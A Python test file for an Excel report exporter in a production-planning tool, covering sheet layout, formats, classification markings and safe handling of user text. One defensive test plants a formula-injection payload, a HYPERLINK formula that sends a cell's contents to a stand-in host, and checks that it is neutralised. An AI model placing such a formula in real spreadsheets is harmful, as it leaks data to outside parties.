"""The workbook: a Summary sheet like the report's first page, tables with units and formats, the
plan's monthly tables wide, names beside codes, the marking on every sheet and printed page."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from bastion.report import build_xlsx, write_report
from bastion.report.answer import answers

FIRST = ("Summary", "targets", "lines", "cost_breakdown", "production", "purchases", "deliveries",
         "stockpiles", "stores", "costs", "plan_explanations")
LONG = ("schedule_tasks", "sim_targets", "sim_first_output", "sim_fan_charts", "resilience_nodes",
        "concentration", "unit_cost", "unit_cost_by_month", "cash_by_year",
        "plan_production", "plan_purchases", "plan_stores", "plan_deliveries", "plan_stockpiles", "plan_costs",
        "inputs")


def _book(run: dict[str, Any], tables: dict[str, Any]) -> Any:
    return load_workbook(io.BytesIO(build_xlsx(run, tables)))


def _header(ws: Any) -> list[Any]:
    return [c.value for c in ws[2]]


def test_sheets_in_order_marking_and_frozen_panes(run: dict[str, Any], tables: dict[str, Any], book: Any) -> None:
    wb = book
    assert tuple(wb.sheetnames[: len(FIRST)]) == FIRST
    assert set(LONG) <= set(wb.sheetnames) and wb.sheetnames[-1] == "inputs"
    for ws in wb.worksheets:
        assert ws["A1"].value == run["classification"], ws.title
        assert ws.freeze_panes is not None and ws.freeze_panes.endswith("3"), ws.title
    for name in ("plan_production", "plan_purchases", "plan_stockpiles"):
        ws = wb[name]
        assert ws.max_row == len(tables[name[5:]]) + 2


def test_summary_matches_the_reports_first_page(short_run: dict[str, Any], short_tables: dict[str, Any]) -> None:
    ws = _book(short_run, short_tables)["Summary"]
    text = [c for row in ws.iter_rows(values_only=True) for c in row if isinstance(c, str)]
    for a in answers(short_run):
        assert a.question in text and a.lead in text
        assert all(p in text for p in a.points)
    assert "Will we meet the targets?" in text and "No: 1 of 6 targets is short in the plan." in text
    assert any("+20 units a month of capacity on line-1" in t for t in text)
    assert "Headline figure" in text


def test_headers_carry_units_and_cells_their_formats(book: Any) -> None:
    wb = book
    targets = wb["targets"]
    head = _header(targets)
    assert head[:4] == ["customer", "customer name", "item", "item name"]
    assert "probability (%)" in head and "planned_units (units)" in head and "units" in head
    assert head[head.index("met in plan") + 1] == "probability (%)"  # P(met) beside met in plan
    row = {h: targets.cell(row=3, column=i + 1) for i, h in enumerate(head)}
    assert row["customer name"].value == "Latvian armed forces (illustrative)"
    assert row["by"].value == dt.datetime(2030, 12, 1) and row["by"].number_format == "yyyy-mm"
    assert row["probability (%)"].number_format == "0.0%"
    assert row["units"].number_format == "#,##0"
    cost = wb["cost_breakdown"]
    assert "plan (EUR)" in _header(cost) and cost.cell(row=3, column=2).number_format == "#,##0"
    nodes = wb["resilience_nodes"]
    assert {"tts_months (months)", "ttr_months (months)", "node name"} <= set(_header(nodes))


def test_monthly_tables_are_wide_with_dates_across(run: dict[str, Any], tables: dict[str, Any], book: Any) -> None:
    wb = book
    prod = wb["production"]
    head = _header(prod)
    assert head[:4] == ["line", "item", "item name", "total: units made (good units a month)"]
    months = head[4:]
    assert all(isinstance(m, dt.datetime) and m.day == 1 for m in months)
    assert months == sorted(months) and prod.freeze_panes == "E3"
    made: dict[tuple[str, str], float] = {}
    for r in tables["production"]:
        made[(r["line"], r["item"])] = made.get((r["line"], r["item"]), 0.0) + r["units"]
    for row in prod.iter_rows(min_row=3, values_only=True):
        assert abs(row[3] - made[(row[0], row[1])]) < 1e-3
        assert abs(sum(row[4:]) - row[3]) < 1e-3
        if row[1] == "body-assy":
            assert row[2] == "Body assembly (intermediate: not output)"
    costs = wb["costs"]
    assert [r[0] for r in costs.iter_rows(min_row=3, values_only=True)] == [
        "capex", "purchases", "production", "fixed", "holding", "total"]
    assert len(_header(costs)) == 2 + len(tables["costs"])


def test_every_sheet_prints_the_marking_top_and_bottom(run: dict[str, Any], tables: dict[str, Any]) -> None:
    run["classification"] = "RESTRICTED & TEST"
    wb = _book(run, tables)
    for ws in wb.worksheets:
        for hf in (ws.oddHeader, ws.oddFooter, ws.evenHeader, ws.evenFooter):
            assert hf.center.text == "RESTRICTED && TEST", ws.title  # "&&" prints one "&"
        assert ws["A1"].value == "RESTRICTED & TEST", ws.title


def test_user_text_never_becomes_a_formula(run: dict[str, Any], tables: dict[str, Any]) -> None:
    evil = '=HYPERLINK("http://x/?"&A1,"a")'
    run["classification"] = "=1+1"
    run["scenario_file"] = "+cmd.yaml"
    run["plan"]["catalogue"]["customers"]["lv-naf"]["name"] = evil
    run["plan"]["targets"][0]["customer"] = "-lv"
    tables["production"][0]["line"] = "@line"
    tables["production"][1]["line"] = "\tline"
    data = build_xlsx(run, tables)
    wb = load_workbook(io.BytesIO(data))
    found = dict.fromkeys(("=1+1", evil, "+cmd.yaml", "-lv", "@line", "\\x09line"), 0)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if c.value == "\\x09line":  # a tab is a control character: written as its escape
                    found[c.value] += 1
                    assert c.data_type == "s"
                elif c.value in found:
                    found[c.value] += 1
                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate)
    assert all(found.values()), found
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_extra_tables_get_their_own_sheet(run: dict[str, Any], tables: dict[str, Any]) -> None:
    tables["my/extra:table with a very long name indeed"] = [{"a": 1, "b": [1, 2], "c": {"x": 1}}]
    tables["empty"] = []
    wb = _book(run, tables)
    extra = next(n for n in wb.sheetnames if n.startswith("myextra"))
    assert len(extra) <= 31
    assert [c.value for c in wb[extra][3]] == [1, "1, 2", "x=1"]
    assert wb["empty"]["A2"].value == "(no rows)"


def test_write_report_writes_both_atomically(run: dict[str, Any], tables: dict[str, Any],
                                             tmp_path: Path) -> None:
    out = tmp_path / "out"
    files = write_report(run, tables, out)
    assert files.html == out / "report.html" and files.xlsx == out / "report.xlsx"
    assert files.html.stat().st_size == files.html_bytes
    assert files.xlsx.stat().st_size == files.xlsx_bytes
    assert sorted(p.name for p in out.iterdir()) == ["report.html", "report.xlsx"]
    # plotly.js is about 4.8 MB; the run adds well under 1 MB
    assert files.html_bytes < 6_000_000
    load_workbook(files.xlsx)


def test_control_characters_written_as_escapes(run: dict[str, Any], tables: dict[str, Any]) -> None:
    """openpyxl refuses C0 controls (IllegalCharacterError): user text is written with them escaped,
    in cells, in the marking of the print header, and in the tables the study's workbook shares."""
    from openpyxl import Workbook

    from bastion.report.xlsx import write_table

    run["classification"] = "SECRET\x07"
    run["scenario"] = "Plant\x1b[2J\x00"
    wb = _book(run, tables)
    assert wb["Summary"]["A1"].value == "SECRET\\x07"
    assert wb["Summary"].oddFooter.center.text == "SECRET\\x07"
    assert wb["Summary"]["A2"].value.startswith("Plant\\x1b[2J\\x00")
    book = Workbook()
    ws = write_table(book, "variants", [{"variant": "a\x0bb", "value": 1.0}], "M\x01", "EUR", set())
    assert ws["A3"].value == "a\\x0bb" and ws["A1"].value == "M\\x01"
    book.save(io.BytesIO())
